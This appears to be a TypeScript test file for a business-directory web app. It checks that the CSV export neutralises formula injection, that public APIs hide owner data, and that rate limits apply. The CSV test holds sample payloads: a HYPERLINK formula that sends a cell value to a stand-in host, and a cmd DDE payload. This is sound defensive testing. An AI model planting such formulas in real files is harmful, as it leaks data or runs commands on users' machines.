import Papa from 'papaparse';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseCsvRows } from '~/features/imports/bulk-import.server.ts';
import { resetRateLimits } from '~/lib/http/rate-limit.server.ts';
import { MSG } from '~/lib/messages.ts';
import * as accountExportRoute from '~/pages/api/account/export.ts';
import * as reviewsRoute from '~/pages/api/businesses/[id]/reviews.ts';
import * as oneBusinessRoute from '~/pages/api/businesses/[id].ts';
import * as businessesRoute from '~/pages/api/businesses/index.ts';
import * as contactRoute from '~/pages/api/contact.ts';
import * as exportRoute from '~/pages/api/desk/businesses/export.ts';
import * as ownerListingRoute from '~/pages/api/owner/listings/[id].ts';
import * as subscribableRoute from '~/pages/api/payments/businesses.ts';
import { callEndpoint } from '../support/api.ts';
import { withTestDb } from '../support/lifecycle.ts';
import { insertBusiness } from '../support/rows.ts';
import { signedInUser } from '../support/sessions.ts';

const t = withTestDb();
beforeEach(() => resetRateLimits());

describe('CSV export against formula injection', () => {
  const cells = {
    name: '=HYPERLINK("http://kotu.example/?x="&A1,"Tıkla")',
    address: '@SUM(1+1) Atatürk Bulvarı, Merkez',
    phone: '+90 416 123 45 67',
    description: "-2+3+cmd|' /C calc'!A0",
    website: 'https://formul.example',
  };

  it('neutralises cells starting with =, +, -, @, tab or CR with a quote mark, and reads them back as written', async () => {
    const admin = await signedInUser(t.db, 'admin', 'csv-yonetici');
    const id = await insertBusiness(t.db, cells.name, { ...cells, status: 'approved' });
    const tabbed = await insertBusiness(t.db, 'Sekmeli Fırın', { description: '\t=1+1', status: 'approved' });

    const exported = await callEndpoint(exportRoute.GET, '/api/desk/businesses/export', { bearer: admin.token });
    expect(exported.status).toBe(200);
    const rows = Papa.parse<Record<string, string>>(exported.text.replace(/^\uFEFF/, ''), { header: true }).data;
    const row = rows.find((r) => r.id === String(id));
    expect(row).toMatchObject({
      name: `'${cells.name}`,
      address: `'${cells.address}`,
      phone: `'${cells.phone}`,
      description: `'${cells.description}`,
      website: cells.website,
    });
    expect(rows.find((r) => r.id === String(tabbed))?.description).toBe("'\t=1+1");
    for (const r of rows)
      for (const value of Object.values(r)) expect(value, `cell ${JSON.stringify(value)}`).not.toMatch(/^[=+\-@\t\r]/);

    // The importer takes the quote mark off again: an export imports as it was written.
    const { candidates } = parseCsvRows(exported.text.replace(/^\uFEFF/, ''));
    expect(candidates.find((c) => c.knownId === id)).toMatchObject({
      name: cells.name,
      address: cells.address,
      phone: cells.phone,
      description: cells.description,
    });
  });
});

describe('what the public API shows of a listing', () => {
  const submitter = { ownerName: 'Gizli Başvuran', ownerEmail: 'basvuran@gizli.example', ownerPhone: '0555 000 11 22' };
  const wizard = {
    marketingBudget: '2500-5000',
    googleAdsInterest: 1,
    facebookAdsInterest: 1,
    instagramAdsInterest: 1,
    tiktokAdsInterest: 1,
    seoOptimization: 1,
    socialMediaManagement: 1,
    contentCreation: 1,
    emailMarketing: 1,
  };
  let owner: { id: number; token: string };
  let id: number;

  beforeAll(async () => {
    owner = await signedInUser(t.db, 'owner', 'sahip-gizli');
    id = await insertBusiness(t.db, 'Gizlilik Kebap Salonu', {
      ...submitter,
      ...wizard,
      ownerId: owner.id,
      email: 'info@acik.example',
      taxId: '9876543210',
      status: 'approved',
      deliveryService: 1,
    });
    await t.db
      .insertInto('reviews')
      .values({ businessId: id, userId: owner.id, authorName: 'Mutlu Müşteri', rating: 5, status: 'approved' })
      .execute();
  });

  /** What must never be in a public answer: the submitter, the owner's account and the wizard's answers. */
  function expectNothingPrivate(text: string) {
    for (const secret of [submitter.ownerEmail, submitter.ownerPhone, submitter.ownerName, 'sahip-gizli@example.com'])
      expect(text).not.toContain(secret);
    expect(text).not.toContain('9876543210');
    expect(text).not.toMatch(/"(ownerId|userId|ownerEmail|ownerName|ownerPhone|taxId)"/);
    for (const field of Object.keys(wizard)) expect(text).not.toContain(`"${field}"`);
    expect(text).not.toContain(wizard.marketingBudget);
  }

  it('the list, the listing, its reviews and the subscribe list carry no owner id, no submitter contact and no wizard answer', async () => {
    const answers = [
      await callEndpoint(businessesRoute.GET, '/api/businesses'),
      await callEndpoint(businessesRoute.GET, '/api/businesses?q=Gizlilik'),
      await callEndpoint(oneBusinessRoute.GET, `/api/businesses/${id}`, { params: { id: String(id) } }),
      await callEndpoint(reviewsRoute.GET, `/api/businesses/${id}/reviews`, { params: { id: String(id) } }),
      await callEndpoint(subscribableRoute.GET, '/api/payments/businesses'),
    ];
    for (const answer of answers) {
      expect(answer.status).toBe(200);
      expect(answer.text).toMatch(/Gizlilik Kebap Salonu|Mutlu Müşteri/);
      expectNothingPrivate(answer.text);
    }
    // What a visitor is meant to see stays: the listing's own contact and its services.
    const one = answers[2]?.json;
    expect(one).toMatchObject({ email: 'info@acik.example', deliveryService: true });
    const emails = (answers[2]?.text ?? '').match(/[\w.+-]+@[\w-]+(\.[\w-]+)+/g) ?? [];
    expect(new Set(emails)).toEqual(new Set(['info@acik.example']));
  });

  it('the owner reading their own listing or their KVKK export gets its fields, not the submitter’s contact data', async () => {
    const answer = await callEndpoint(ownerListingRoute.GET, `/api/owner/listings/${id}`, {
      params: { id: String(id) },
      bearer: owner.token,
    });
    expect(answer.status).toBe(200);
    expect(answer.json.values).toMatchObject({ name: 'Gizlilik Kebap Salonu', email: 'info@acik.example' });
    for (const secret of [submitter.ownerEmail, submitter.ownerPhone, submitter.ownerName, '9876543210'])
      expect(answer.text).not.toContain(secret);

    // Nor does the account's KVKK export: the listing is there, its submitter is not.
    const exported = await callEndpoint(accountExportRoute.GET, '/api/account/export', { bearer: owner.token });
    expect(exported.status).toBe(200);
    expect(exported.json.businesses.map((b: { name: string }) => b.name)).toEqual(['Gizlilik Kebap Salonu']);
    for (const secret of [submitter.ownerEmail, submitter.ownerPhone, submitter.ownerName])
      expect(exported.text).not.toContain(secret);
  });
});

describe('a browser form post over the rate limit', () => {
  it('answers 429 Too Many Requests with Retry-After and the form again, as the JSON answer does', async () => {
    const post = () =>
      callEndpoint(contactRoute.POST, '/api/contact', { form: { name: 'Seri Gönderen' }, ip: '203.0.113.7' });
    let answer = await post();
    for (let i = 0; i < 50 && answer.status !== 429; i++) answer = await post();
    expect(answer.status).toBe(429);
    expect(Number(answer.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(answer.formState?.message).toBe(MSG.rateLimited);
    expect(answer.formState?.values.name).toBe('Seri Gönderen');

    const json = await callEndpoint(contactRoute.POST, '/api/contact', { body: {}, ip: '203.0.113.7' });
    expect(json.status).toBe(429);
    expect(json.headers.get('retry-after')).toBeTruthy();
  });
});
